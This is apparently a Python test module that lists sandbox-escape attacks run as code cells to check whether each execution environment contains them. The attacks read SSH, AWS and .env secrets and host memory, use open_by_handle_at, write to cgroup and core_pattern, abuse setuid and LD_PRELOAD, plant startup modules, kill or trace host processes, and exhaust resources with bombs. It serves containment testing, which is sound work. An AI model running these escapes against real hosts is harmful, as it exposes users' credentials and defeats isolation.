"""Attacks: attempts of a cell to get out of its environment, as data, and how the host sees whether they got out.

`tests/test_attacks.py` runs them where an environment promises to hold them. `python -m tests.containment` runs all of
them in every environment that works here; `--write` writes nbs/shell/attacks.json, which a page of the docs shows.

An attack runs in a host process that tests/containment.py watches from outside: whatever the cell does to its host, the
tests see it. Network attempts go to loopback only, bombs end by themselves, and each attempt is harmless where nothing
holds it: it shows that a way out is open and does not use it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

NR = dict(  # the numbers of system calls that have no function in every C library
    x86_64=dict(
        keyctl=250,
        request_key=249,
        bpf=321,
        perf_event_open=298,
        userfaultfd=323,
        kexec_load=246,
        init_module=175,
        finit_module=313,
        io_uring_setup=425,
        process_vm_readv=310,
        pidfd_open=434,
        pidfd_getfd=438,
        open_by_handle_at=304,
        swapon=167,
        reboot=169,
        fanotify_init=300,
        fsopen=430,
        syslog=103,
        memfd_create=319,
        memfd_secret=447,
        quotactl=179,
        setns=308,
        unshare=272,
        mount=165,
        clone=56,
        exit=60,
        ioprio_set=251,
        timer_create=222,
        inotify_add_watch=254,
        landlock_create=444,
        landlock_restrict=446,
    ),
    aarch64=dict(
        keyctl=219,
        request_key=218,
        bpf=280,
        perf_event_open=241,
        userfaultfd=282,
        kexec_load=104,
        init_module=105,
        finit_module=273,
        io_uring_setup=425,
        process_vm_readv=270,
        pidfd_open=434,
        pidfd_getfd=438,
        open_by_handle_at=265,
        swapon=224,
        reboot=142,
        fanotify_init=262,
        fsopen=430,
        syslog=116,
        memfd_create=279,
        memfd_secret=447,
        quotactl=60,
        setns=268,
        unshare=97,
        mount=40,
        clone=220,
        exit=93,
        ioprio_set=30,
        timer_create=107,
        inotify_add_watch=27,
        landlock_create=444,
        landlock_restrict=446,
    ),
)

PRELUDE = f'''
import ctypes, errno, os, platform, select, signal, socket, stat, struct, sys, threading, time
libc, NR = ctypes.CDLL(None, use_errno=True), {NR!r}[platform.machine()]
kept = 41
# `own`: the folder that a cell may write to
own = next((folder for folder in ('/sandbox', '/work') if trap['contained'] and os.path.isdir(folder)), trap['scratch'])

def syscall(name, *arguments):
    return libc.syscall(NR[name], *[ctypes.c_long(each) if isinstance(each, int) else each for each in arguments])

def escaped(*what): print('ESCAPED', *what)

def attempt(function, *arguments, **named):
    try: return function(*arguments, **named)
    except Exception as error: return None

def read(path, size=100_000):
    with open(path, 'rb', buffering=0) as file: return file.read(size).decode('latin1')

def pipes():
    "Descriptors that lead out of the process: sockets and pipes."
    for descriptor in range(256):
        try: mode = os.fstat(descriptor).st_mode
        except OSError: continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode): yield descriptor

unread = set() # pipes that nothing reads

def write_all(descriptor, data):
    "Write as long as somebody reads."
    if descriptor in unread: raise OSError('nothing reads it')
    data = memoryview(data)
    sock = socket.socket(fileno=os.dup(descriptor)) if stat.S_ISSOCK(os.fstat(descriptor).st_mode) else None
    try:
        while data and select.select([], [descriptor], [], 0.5)[1]:
            data = data[sock.send(data, socket.MSG_DONTWAIT) if sock else os.write(descriptor, data[:4096]):]
    finally: sock and sock.close()
    if data:
        unread.add(descriptor)
        raise OSError('nothing reads it')

def frame(message):
    import json
    data = json.dumps(message).encode()
    return struct.pack('>I', len(data)) + data

def mark():
    "Name this process, so that the host finds it wherever it went."
    libc.prctl(15, trap['mark'].encode())
'''


@dataclass
class Seen:
    "What came of an attack, as the host and the tests outside of it saw it."

    cells: list[dict] = field(default_factory=list)  # the attack's cell, then cells that look whether the run can go on
    said: str = ''  # everything that the cell said
    host: str = ''  # what became of the host process; '' where it is well
    found: list[str] = field(default_factory=list)  # secrets that the cell's words hold
    visitors: list[str] = field(default_factory=list)  # listeners that something connected to
    written: list[str] = field(
        default_factory=list
    )  # files that are where they should not be, or are no longer what they were
    harmed: list[str] = field(default_factory=list)  # processes that were killed, stopped or traced
    left: list[str] = field(
        default_factory=list
    )  # processes, descriptors and files that are still there after the shell was closed
    asked: int = 0  # prompts that reached the host as sub-calls
    at_once: int = 0  # of them, the most that were there at the same time
    memory: float = 0.0  # MB by which the host's peak memory grew
    seconds: float = 0.0  # of the attack's cell


def escape(seen: Seen, attack: Attack) -> list[str]:  # [] where it was contained
    "Everything that got out."
    out = (
        [f'read {name}' for name in seen.found]
        + [f'reached {name}' for name in seen.visitors]
        + [f'wrote {name}' for name in seen.written]
    )
    out += [f'harmed {name}' for name in seen.harmed] + [f'left {name}' for name in seen.left]
    out += [line.removeprefix('ESCAPED ') for line in seen.said.splitlines() if line.startswith('ESCAPED ')]
    if seen.host:
        out.append(f'the host {seen.host}')
    if seen.memory > MEMORY:
        out.append(f'the host grew by {seen.memory:.0f} MB')
    if seen.seconds > attack.timeout + GRACE:
        out.append(f'the cell ran for {seen.seconds:.0f} s with a limit of {attack.timeout:g} s')
    return out + goes_on(seen)


def unfinished(seen: Seen, attack: Attack) -> bool:
    "Whether an attack that should come to its end did not, and so shows nothing."
    return (
        attack.ends
        and attack.kind != 'hangs'
        and any('ran longer than its limit' in cell['said'] for cell in seen.cells[:1])
    )


def goes_on(seen: Seen) -> list[str]:
    "What keeps the run from going on: the next cell must work, with its variables or a note that they are lost."
    if seen.host:
        return []
    if len(seen.cells) < 2:
        return ['the run did not go on']
    out = [f"a cell raised {cell['raised']} in the host" for cell in seen.cells if cell.get('raised')]
    last, lost = (
        seen.cells[-1]['said'],
        any('variables, functions and imports are lost' in cell['said'] for cell in seen.cells),
    )
    if 'context is there' not in last:
        out.append(f'the next cell lacks its context: {last[-200:]!r}')
    if 'kept is there' not in last and not lost:
        out.append('variables were lost and nobody said so')
    return out


MEMORY = 700  # MB that a host may need for what a cell makes it read
GRACE = 8.0  # seconds within which a cell is over after its time is
UNSAFE = ('local', 'process', 'kernel')  # they promise nothing about what a cell may reach
IN_PROCESS = ('local',)


AFTER = '''
try: print('kept is there' if kept == 41 else 'kept is another')
except NameError: print('kept is gone')
print('context is there' if len(context) == 28_000 and context.endswith('🙂\\r\\n') else 'context is another')
'''


@dataclass(frozen=True)
class Attack:
    "One attempt."

    name: str
    kind: str  # what it aims at
    tries: str  # in words, for the table
    code: str  # of the cell; `trap` and the helpers of the prelude are there
    open_in: tuple[str, ...] = UNSAFE  # environments that do not hold it
    timeout: float = 10.0  # seconds for the cell
    needs_root: bool = False  # an ordinary user cannot do it, whatever the environment
    after: str = AFTER  # the cell that looks whether the run can go on
    fetch: tuple[str, ...] = ()  # variables that the host asks for after the cell
    give: bool = False  # the host sets a large variable after the cell
    other: bool = False  # another run goes on at the same time
    ends: bool = True  # it is over before its time is, or its process is
    bomb: bool = False  # runs only after the others have shown that limits are set
    gentle: bool = False  # it leaves the shell as good as new where it is contained, so that the next may use it
    vain: str = ''  # why it may do nothing on some machines, even where nothing holds it

    @property
    def contained_in(self) -> tuple[str, ...]:
        return tuple(
            env for env in ('local', 'process', 'sandbox', 'docker', 'kernel', 'landlock') if env not in self.open_in
        )


ATTACKS: list[Attack] = []


def attack(kind: str, name: str, tries: str, code: str, **more: Any) -> None:
    ATTACKS.append(
        Attack(
            name,
            kind,
            tries,
            code.strip('\n'),
            **dict(gentle=kind in ('secrets', 'network', 'files', 'processes', 'kernel')) | more,
        )
    )


# --- secrets ---

attack(
    'secrets',
    'environment',
    'reads keys from its own environment variables',
    '''
for name, value in os.environ.items(): print(name, value)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')
place = 0
while environ and environ[place]:
    print(environ[place].decode('latin1'))
    place += 1
''',
    open_in=('local',),
)
attack(
    'secrets',
    'environment_of_host',
    'reads keys from /proc/*/environ of the host',
    '''
for process in [
    os.getppid(), trap['host'], 1, *[int(name) for name in attempt(os.listdir, '/proc') or [] if name.isdigit()]
][:4000]:
    text = attempt(read, f'/proc/{process}/environ')
    if text and trap['key'] in text: print(text)
''',
)
attack(
    'secrets',
    'home',
    'reads a file in the home of the user',
    '''
for path in trap['secret_files']: print(attempt(read, path))
''',
)
attack(
    'secrets',
    'home_through_proc',
    'reads the same through /proc/*/root and /proc/*/cwd, and with many ..',
    '''
for path in trap['secret_files']:
    for start in (
        '/proc/1/root', '/proc/self/root', f"/proc/{os.getppid()}/root", f"/proc/{trap['host']}/root",
        own + '/' + '../' * 30, '/proc/self/cwd/' + '../' * 30, '/dev/fd/0/' + '../' * 10,
    ):
        print(attempt(read, start + path))
''',
)
attack(
    'secrets',
    'ssh_keys',
    'lists and reads ~/.ssh and other places of keys',
    '''
import glob
for home in ('/root', os.path.expanduser('~'), trap['home'], *glob.glob('/home/*')):
    for path in glob.glob(home + '/.ssh/*') + glob.glob(home + '/.aws/*') + glob.glob(home + '/.netrc'):
        text = attempt(read, path)
        print(text)
        if text and path.endswith(('id_rsa', 'id_ed25519', '.netrc')): escaped('read', path)
''',
)
attack(
    'secrets',
    'search',
    'walks through all folders for files that look like secrets',
    '''
for root, folders, files in os.walk('/'):
    folders[:] = [
        name for name in folders
        if os.path.join(root, name) not in ('/proc', '/sys', '/usr', '/lib') and 'site-packages' not in name
    ]
    for name in files:
        if 'canary' in name or name == '.env': print(root, name, attempt(read, os.path.join(root, name)))
''',
    timeout=15,
)
attack(
    'secrets',
    'working_folder',
    'reads .env in the folder where the host was started',
    '''
for path in ('.env', '../.env', trap['cwd'] + '/.env', f"/proc/{os.getppid()}/cwd/.env"): print(attempt(read, path))
''',
)
attack(
    'secrets',
    'open_files',
    'reads from descriptors that the host left open',
    '''
for descriptor in range(3, 256):
    text = attempt(os.pread, descriptor, 4096, 0)
    if text: print(text.decode('latin1'))
''',
    open_in=('local',),
)
attack(
    'secrets',
    'memory_of_host',
    'reads the memory of the host through /proc/*/mem and process_vm_readv',
    '''
class Vector(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
for process in {os.getppid(), trap['host']}:
    if attempt(open, f'/proc/{process}/mem', 'rb'): escaped('opened the memory of', process)
    room = ctypes.create_string_buffer(8)
    here, there = Vector(ctypes.addressof(room), 8), Vector(int(trap['address']), 8)
    if process == trap['host'] and syscall(
        'process_vm_readv', process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0
    ) == 8: escaped('read the memory of', process)
''',
)
attack(
    'secrets',
    'keyring',
    'reads a key from the keyring of the session',
    '''
room = ctypes.create_string_buffer(100)
key = syscall('request_key', b'user', trap['key_name'].encode(), None, 0)
if key > 0 and syscall('keyctl', 11, key, room, 100, 0) > 0: print(room.value.decode())
''',
    vain='the kernel has no keyrings',
)
attack(
    'secrets',
    'context_of_another_run',
    'reads the context of another run that is going on',
    '''
def look(path):
    if attempt(os.path.getsize, path) == trap['other_size']: print(attempt(read, path))
for process in [
    trap['host'], os.getppid(), *[name for name in attempt(os.listdir, '/proc') or [] if name.isdigit()][-100:]
]:
    for descriptor in attempt(os.listdir, f'/proc/{process}/fd') or []: look(f'/proc/{process}/fd/{descriptor}')
for folder in ('/tmp', '/dev/shm', own, '/var/tmp', '/run', os.getcwd()):
    for name in attempt(os.listdir, folder) or []:
        look(f'{folder}/{name}')
        for inner in attempt(os.listdir, f'{folder}/{name}') or [] if 'rlm' in name else []:
            look(f'{folder}/{name}/{inner}')
import gc
for each in gc.get_objects():
    if type(each) is not dict: continue
    for value in list(each.values()):
        if type(value) is str and len(value) == trap['other_size']: print(value)
''',
    other=True,
)
attack(
    'secrets',
    'processes_of_host',
    'lists the processes of the host and their command lines',
    '''
for name in attempt(os.listdir, '/proc') or []:
    if name.isdigit() and trap['victim_word'] in (attempt(read, f'/proc/{name}/cmdline') or ''):
        escaped('saw process', name)
''',
)
attack(
    'secrets',
    'block_devices',
    'reads the disk of the host as a device',
    '''
for root, _, names in os.walk('/sys/dev/block'):
    for name in names + _:
        major, _, minor = name.partition(':')
        if not minor.isdigit(): continue
        path = f'{own}/disk-{name}'
        try: os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(int(major), int(minor)))
        except OSError: continue
        if attempt(read, path, 512): escaped('read block device', name)
        os.unlink(path)
for path in ('/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/mem', '/dev/kmsg', '/dev/port'):
    try: os.close(os.open(path, os.O_RDONLY))
    except OSError: continue
    escaped('opened', path)
''',
    needs_root=True,
)
attack(
    'secrets',
    'kernel_log',
    'reads the log of the kernel',
    '''
room = ctypes.create_string_buffer(4096)
if syscall('syslog', 3, room, 4096) > 0: escaped('read the log of the kernel')
''',
    needs_root=True,
)
attack(
    'secrets',
    'file_handles',
    'opens files of the host by handle, past all folders (the "shocker")',
    '''
root = os.open('/', os.O_RDONLY)
handle = ctypes.create_string_buffer(struct.pack('=Ii', 8, 1) + struct.pack('=Q', 2))
found = syscall('open_by_handle_at', root, handle, 0)
if found >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
    escaped('open_by_handle_at:', found, errno.errorcode.get(ctypes.get_errno()))
''',
    needs_root=True,
)

# --- network: to loopback alone ---

attack(
    'network',
    'tcp',
    'connects to a server on 127.0.0.1 of the host',
    '''
with socket.create_connection(('127.0.0.1', trap['tcp']), timeout=2) as connection: connection.sendall(b'secret')
''',
)
attack(
    'network',
    'tcp_v6',
    'connects to a server on ::1 of the host',
    '''
with socket.create_connection(('::1', trap['tcp6']), timeout=2) as connection: connection.sendall(b'secret')
''',
    vain='there is no IPv6',
)
attack(
    'network',
    'udp',
    'sends a datagram to the host',
    '''
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender: sender.sendto(b'secret', ('127.0.0.1', trap['udp']))
''',
)
attack(
    'network',
    'unix_socket',
    'connects to a UNIX socket of the host',
    '''
for path in trap['unix']:
    connection = socket.socket(socket.AF_UNIX)
    attempt(connection.connect, path)
''',
)
attack(
    'network',
    'abstract_socket',
    'connects to an abstract UNIX socket of the host',
    '''
connection = socket.socket(socket.AF_UNIX)
connection.connect('\\0' + trap['abstract'])
''',
)
attack(
    'network',
    'vsock',
    'opens a vsock, which no network namespace holds',
    '''
listener = socket.socket(socket.AF_VSOCK)
listener.bind((socket.VMADDR_CID_ANY, 0xFFFFFFFF))
escaped('listens on vsock port', listener.getsockname()[1])
''',
    vain='the kernel has no vsock',
)
attack(
    'network',
    'raw_sockets',
    'opens raw and packet sockets',
    '''
for family, kind, protocol in (
    (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0)
):
    opened = attempt(socket.socket, family, kind, protocol)
    if opened: escaped('raw socket', family)
''',
    needs_root=True,
)
attack(
    'network',
    'interfaces',
    'looks for a network card of the host',
    '''
names = {name for _, name in attempt(socket.if_nameindex) or []} | set(attempt(os.listdir, '/sys/class/net') or [])
if set(trap['interfaces']) & names: escaped('saw', names)
''',
    vain='the host has no network card',
)
attack(
    'network',
    'io_uring',
    'makes system calls through io_uring, past a filter of system calls',
    '''
room = ctypes.create_string_buffer(120)
if syscall('io_uring_setup', 4, room) >= 0: escaped('io_uring')
''',
    vain='the kernel has no io_uring',
)
attack(
    'network',
    'passed_descriptors',
    'floods the host with descriptors passed over the socket',
    '''
import array
left, right = attempt(socket.socketpair) or (None, None)
many = array.array('i', [1] * 100)
for descriptor in pipes():
    try: sock = socket.socket(fileno=os.dup(descriptor))
    except OSError: continue
    for _ in range(20):
        attempt(sock.sendmsg, [b'\\0'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)], socket.MSG_DONTWAIT)
''',
    open_in=(),
)

# --- files ---

attack(
    'files',
    'write_outside',
    'writes files into the home, /etc, /usr, /var/tmp, /tmp and the folder of the host',
    '''
for folder in trap['folders']:
    try:
        with open(os.path.join(folder, trap['new_file']), 'w') as file: file.write('here')
    except OSError: pass
''',
)
attack(
    'files',
    'write_into_venv',
    'writes into the virtual environment, the library and the worker',
    '''
for folder in trap['libraries']:
    try:
        with open(os.path.join(folder, trap['new_file']), 'w') as file: file.write('here')
    except OSError: pass
import json, encodings
for module in list(sys.modules.values()):
    path = getattr(module, '__file__', None)
    if not path or not path.startswith(('/', '.')): continue
    try: os.close(os.open(path, os.O_WRONLY))
    except OSError: continue
    escaped('could change', path)
    break
''',
)
attack(
    'files',
    'change_context_file',
    'changes the file of the context',
    '''
for path in (
    '/context', '/context.txt', '/context.bin',
    *[line.split()[-1] for line in (attempt(read, '/proc/self/maps') or '').splitlines() if 'context' in line],
):
    if not os.path.exists(path): continue
    for change in (
        lambda: os.close(os.open(path, os.O_WRONLY)), lambda: os.unlink(path),
        lambda: os.chmod(path, 0o777), lambda: os.rename(path, path + '.old'),
    ):
        try: change()
        except OSError: continue
        escaped('changed', path)
''',
    open_in=(),
)
attack(
    'files',
    'symlinks',
    'links from its folder to files of the host, and reads and writes through the links',
    '''
for number, path in enumerate([*trap['secret_files'], trap['folders'][0]]):
    for link in (os.symlink, os.link):
        name = f'link-{number}-{link.__name__}'
        try: link(path, name)
        except OSError: continue
        print(attempt(read, name))
        try:
            with open(os.path.join(name, trap['new_file']), 'w') as file: file.write('here')
        except OSError: pass
        attempt(os.unlink, name)
''',
)
attack(
    'files',
    'remount',
    'makes read-only folders writable again',
    '''
for path in ('/', '/usr', '/dev', '/tmp', sys.prefix):
    if libc.mount(b'none', path.encode(), None, 32 | 4096, None) == 0: escaped('remounted', path)
''',
    open_in=('local', 'process', 'kernel'),
    needs_root=True,
)
attack(
    'files',
    'mount',
    'mounts a file system',
    '''
where = os.path.join(own, 'mounted')
os.makedirs(where, exist_ok=True)
for source, kind, flags in ((b'tmpfs', b'tmpfs', 0), (b'proc', b'proc', 0), (b'/', None, 4096)):
    if libc.mount(source, where.encode(), kind, flags, None) == 0:
        libc.umount2(where.encode(), 2)
        escaped('mounted', kind)
''',
    needs_root=True,
)
attack(
    'files',
    'chroot',
    'leaves its root folder with chroot and ..',
    '''
where = os.path.join(own, 'jail')
os.makedirs(where, exist_ok=True)
root = os.open('/', os.O_RDONLY)
if libc.chroot(where.encode()) == 0:
    os.fchdir(root)
    for _ in range(60): os.chdir('..')
    libc.chroot(b'.')
    escaped('chroot')
''',
    needs_root=True,
    gentle=False,
)
attack(
    'files',
    'core_pattern',
    'opens the settings of the kernel for writing, core_pattern among them',
    '''
for path in (
    '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/vm/overcommit_memory',
    '/proc/sys/fs/binfmt_misc/register', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper', '/sys/power/state',
):
    try: os.close(os.open(path, os.O_WRONLY))
    except OSError: continue
    escaped('opened', path)
''',
    needs_root=True,
)
attack(
    'files',
    'cgroup',
    'makes a control group, whose release agent would run on the host',
    '''
for folder, folders, files in os.walk('/sys/fs/cgroup'):
    del folders[8:]
    for name in set(files) & {'release_agent', 'cgroup.procs', 'memory.max', 'memory.limit_in_bytes'}:
        try: os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
        except OSError: continue
        escaped('opened', os.path.join(folder, name))
''',
    needs_root=True,
)
attack(
    'files',
    'setuid_programs',
    'becomes another user through setuid programs',
    '''
import glob, subprocess
found = [
    path for pattern in ('/usr/bin/*', '/bin/*', '/usr/sbin/*', '/sbin/*') for path in glob.glob(pattern)
    if (attempt(os.stat, path) or os.stat('/')).st_mode & stat.S_ISUID
]
for path in found[:5]:
    ended = attempt(subprocess.run, [path, '--help'], capture_output=True, timeout=3, stdin=subprocess.DEVNULL)
    if ended and not libc.prctl(39, 0, 0, 0, 0): escaped('ran', path)
for path in (own + '/su', trap['scratch'] + '/su'):
    try:
        with open(path, 'w') as file: file.write('x')
        os.chmod(path, 0o4755)
        os.chown(path, 0, 0)
    except OSError: continue
    if os.stat(path).st_mode & stat.S_ISUID and os.stat(path).st_uid == 0 and path.startswith(trap['scratch']):
        escaped('made a setuid program', path)
''',
)
attack(
    'files',
    'preload',
    'starts programs with a library of its own (LD_PRELOAD)',
    '''
import subprocess
os.environ['LD_PRELOAD'] = 'libm.so.6'
libc.setenv(b'LD_PRELOAD', b'libm.so.6', 1)
for program in ('/usr/bin/env', '/bin/true', sys.executable):
    ended = attempt(subprocess.run, [program, '--version'], capture_output=True, timeout=3)
    if ended and ended.returncode == 0 and not trap['contained']: escaped('ran', program)
''',
    gentle=False,
)
attack(
    'files',
    'planted_modules',
    'plants modules and settings that the next worker would load, then dies',
    '''
text = 'import builtins; builtins.planted = True'
for folder in (
    os.getcwd() if trap['contained'] or os.getcwd() == trap['cwd'] else own,
    own,
    os.path.expanduser('~/.ipython/profile_default/startup'),
    os.path.expanduser(f'~/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages'),
):
    if folder.startswith(trap['real_home']): continue
    for name in ('json.py', 'sitecustomize.py', 'usercustomize.py', 'struct.py', 'IPython.py', 'planted.pth'):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), 'w') as file: file.write(text)
        except OSError: pass
os._exit(0)
''',
    gentle=False,
)

# --- other processes ---

attack(
    'processes',
    'kill_host',
    'kills the host',
    '''
for process in (trap['host'], os.getppid()):
    if process > 1: attempt(os.kill, process, signal.SIGKILL)
''',
)
attack(
    'processes',
    'kill_others',
    'kills another process of the user',
    '''
os.kill(trap['victim'], signal.SIGKILL)
''',
)
attack(
    'processes',
    'stop_host',
    'stops the host with SIGSTOP',
    '''
for process in (trap['host'], os.getppid()):
    if process > 1: attempt(os.kill, process, signal.SIGSTOP)
''',
)
attack(
    'processes',
    'trace_others',
    'traces another process of the user',
    '''
libc.ptrace.argtypes = [ctypes.c_long] * 4
for process in (trap['victim'], trap['host'], os.getppid()):
    if process > 1 and libc.ptrace(0x4206, process, 0, 0) == 0:
        escaped('traces', process)
        libc.ptrace(17, process, 0, 0)
''',
    open_in=('local', 'process', 'kernel'),
)
attack(
    'processes',
    'steal_descriptors',
    'takes open files out of another process',
    '''
process = syscall('pidfd_open', trap['victim'], 0)
if process >= 0 and syscall('pidfd_getfd', process, 1, 0) >= 0: escaped('took a descriptor of', trap['victim'])
''',
)
attack(
    'processes',
    'priority',
    'makes itself more important than all others',
    '''
if libc.setpriority(0, 0, -20) == 0: escaped('priority -20')
if (
    attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1)) is None
    and os.sched_getscheduler(0) == os.SCHED_FIFO
): escaped('real-time scheduling')
''',
    needs_root=True,
)
attack(
    'processes',
    'user_namespace',
    'makes a user namespace, in which it would be root',
    '''
child = attempt(os.fork)
if child == 0: os._exit(0 if libc.unshare(0x10000000) == 0 else 1)
if child and os.waitpid(child, 0)[1] == 0: escaped('made a user namespace')
''',
    vain='user namespaces are off',
)
attack(
    'processes',
    'namespaces_of_host',
    'enters the namespaces of the host',
    '''
for process in (1, os.getppid(), trap['host']):
    for kind in ('net', 'mnt', 'pid', 'user'):
        try: space = os.open(f'/proc/{process}/ns/{kind}', os.O_RDONLY)
        except OSError: continue
        if os.readlink(f'/proc/{process}/ns/{kind}') == trap['namespaces'][kind] and (
            libc.setns(space, 0) == 0 or os.readlink(f'/proc/self/ns/{kind}') == trap['namespaces'][kind]
        ): escaped('is in', kind)
''',
)
attack(
    'processes',
    'terminal',
    'types into the terminal of the user',
    '''
import fcntl, termios
for path in (
    '/dev/tty', *[f'/dev/fd/{descriptor}' for descriptor in range(16)],
    *[f'/dev/pts/{number}' for number in range(8)], '/dev/console',
):
    try: terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError: continue
    if os.isatty(terminal) and (path == '/dev/tty' or os.ttyname(terminal) == trap['terminal']):
        escaped('opened the terminal', path)
''',
)
attack(
    'processes',
    'left_behind',
    'leaves a process that outlives it: two forks, a session of its own, no signal at death',
    '''
import subprocess
def leave():
    if os.fork() == 0:
        os.setsid()
        libc.prctl(1, 0, 0, 0, 0)
        if os.fork() == 0:
            mark()
            for descriptor in range(64): attempt(os.close, descriptor)
            time.sleep(60)
        os._exit(0)
attempt(leave)
attempt(subprocess.Popen, ['sleep', '60.' + trap['number']], start_new_session=True)
''',
    gentle=False,
)

attack(
    'processes',
    'root_again',
    'becomes root again, and takes capabilities',
    '''
if libc.setresuid(0, 0, 0) == 0: escaped('is root')
if libc.setgroups(ctypes.c_size_t(1), struct.pack('i', 0)) == 0: escaped('chose its groups')
if libc.capset(
    struct.pack('=Ii', 0x20080522, 0), struct.pack('=6I', *[0xFFFFFFFF, 0xFFFFFFFF, 0, 0x1FF, 0x1FF, 0])
) == 0: escaped('took capabilities')
''',
    needs_root=True,
)

# --- more than its share ---

attack(
    'bombs',
    'raised_limits',
    'raises its own limits',
    '''
import resource
for name in ('RLIMIT_AS', 'RLIMIT_NOFILE', 'RLIMIT_FSIZE', 'RLIMIT_NPROC', 'RLIMIT_CORE'):
    limit, before = getattr(resource, name), resource.getrlimit(getattr(resource, name))
    for soft, hard in ((-1, -1), (before[1] + 1, before[1] + 1)):
        if before[1] == -1 and name in ('RLIMIT_AS', 'RLIMIT_FSIZE') and not trap['contained']:
            escaped(name, 'is not limited')
        if before[1] != -1 and attempt(lambda: resource.setrlimit(limit, (soft, hard)) or True):
            escaped('raised', name)
            resource.setrlimit(limit, before)
''',
    gentle=True,
)
attack(
    'bombs',
    'forks',
    'starts 300 processes',
    '''
children = []
for _ in range(300):
    try: child = os.fork()
    except OSError: break
    if child == 0:
        mark()
        time.sleep(20)
        os._exit(0)
    children.append(child)
if len(children) > 200: escaped(len(children), 'processes')
''',
    bomb=True,
)
attack(
    'bombs',
    'threads',
    'starts 3,000 threads with small stacks',
    '''
threading.stack_size(64 * 1024)
done, threads = threading.Event(), []
try:
    for _ in range(3000):
        threads.append(threading.Thread(target=done.wait, args=(15,), daemon=True))
        threads[-1].start()
except Exception as error: print(error)
alive = sum(thread.is_alive() for thread in threads)
done.set()
if alive > 1500: escaped(alive, 'threads')
''',
    bomb=True,
)
attack(
    'bombs',
    'memory',
    'takes 6 GB of memory',
    '''
blocks = []
for _ in range(60): blocks.append(b'x' * 100_000_000)
escaped('6 GB of memory')
''',
    bomb=True,
    timeout=20,
)
attack(
    'bombs',
    'memory_map',
    'takes 4 GB of shared memory without a name',
    '''
import mmap
blocks = []
for _ in range(40):
    blocks.append(mmap.mmap(-1, 100_000_000))
    for place in range(0, 100_000_000, 4096): blocks[-1][place] = 1
escaped('4 GB of shared memory')
''',
    bomb=True,
    timeout=30,
)
attack(
    'bombs',
    'memfd',
    'takes 3 GB with memfd_create, which no limit of the process counts',
    '''
memory = [attempt(os.memfd_create, f'bomb-{number}') for number in range(6)]
total = 0
for descriptor in memory:
    if descriptor is None: continue
    for _ in range(32): total += attempt(os.write, descriptor, b'x' * 2**24) or 0
if total > 2_000_000_000: escaped(total, 'bytes of memfd')
''',
    bomb=True,
    timeout=20,
)
attack(
    'bombs',
    'sysv_memory',
    'takes 2 GB of System V shared memory',
    '''
libc.shmat.restype = ctypes.c_void_p
total, segments = 0, []
for _ in range(8):
    segments.append(libc.shmget(0, ctypes.c_size_t(2**28), 0o1600))
    address = libc.shmat(segments[-1], None, 0) if segments[-1] >= 0 else None
    if address in (None, ctypes.c_void_p(-1).value): break
    ctypes.memset(address, 1, 2**28)
    total += 2**28
    libc.shmdt(ctypes.c_void_p(address))
for segment in segments: libc.shmctl(segment, 0, None)
if total >= 2**31: escaped(total, 'bytes of System V memory')
''',
    bomb=True,
    timeout=20,
)
attack(
    'bombs',
    'queues',
    'fills System V message queues and semaphores',
    '''
made = [libc.msgget(0, 0o1600) for _ in range(10)]
for queue in made:
    if queue >= 0: libc.msgctl(queue, 0, None)
sets = [libc.semget(0, 100, 0o1600) for _ in range(10)]
for each in sets:
    if each >= 0: libc.semctl(each, 0, 0)
if (
    any(each >= 0 for each in made + sets)
    and trap['ipc'] == (attempt(os.readlink, '/proc/self/ns/ipc') or trap['ipc'])
    and not trap['contained']
): escaped('queues of the host')
''',
    gentle=True,
)
attack(
    'bombs',
    'disk',
    'fills every folder that it can write to, 3 GB in all',
    '''
total = 0
for folder in (
    own, '/tmp', '/dev/shm', '/dev', '/var/tmp', '/run', '/', '/dev/mqueue', os.path.expanduser('~'), os.getcwd()
):
    path = os.path.join(folder, trap['new_file'])
    try:
        with open(path, 'wb', buffering=0) as file:
            while total < 3_000_000_000: total += file.write(b'x' * 2**20)
    except OSError: pass
    finally: trap['contained'] or attempt(os.unlink, path)
if total >= 3_000_000_000: escaped(total, 'bytes on disk')
''',
    bomb=True,
    timeout=30,
)
attack(
    'bombs',
    'small_files',
    'makes files until none can be made, at most 300,000',
    '''
made, start = 0, time.monotonic()
folder = own + '/many'
os.makedirs(folder)
for number in range(300_000):
    try: os.mknod(f'{folder}/{number}')
    except OSError: break
    made += 1
if not trap['contained']: __import__('shutil').rmtree(folder)
if made == 300_000: escaped(made, 'files')
''',
    bomb=True,
    timeout=30,
)
attack(
    'bombs',
    'descriptors',
    'opens 100,000 files',
    '''
import resource
attempt(resource.setrlimit, resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
opened = []
try:
    while len(opened) < 100_000: opened.append(os.open('/dev/null', os.O_RDONLY))
except OSError as error: print(error)
finally:
    for descriptor in opened: os.close(descriptor)
if len(opened) > 10_000: escaped(len(opened), 'descriptors')
''',
    vain='the user has a lower limit',
    gentle=True,
)
attack(
    'bombs',
    'pipes',
    'fills pipes, which no limit of the process counts',
    '''
import fcntl
total, ends = 0, []
try:
    for _ in range(1500):
        ends.append(os.pipe())
        attempt(fcntl.fcntl, ends[-1][1], 1031, 2**20)
        os.set_blocking(ends[-1][1], False)
        while True:
            try: total += os.write(ends[-1][1], b'x' * 2**20)
            except BlockingIOError: break
except OSError as error: print(error)
for pair in ends: os.close(pair[0]), os.close(pair[1])
if total > 400_000_000: escaped(total, 'bytes in pipes')
''',
    bomb=True,
    needs_root=True,
)
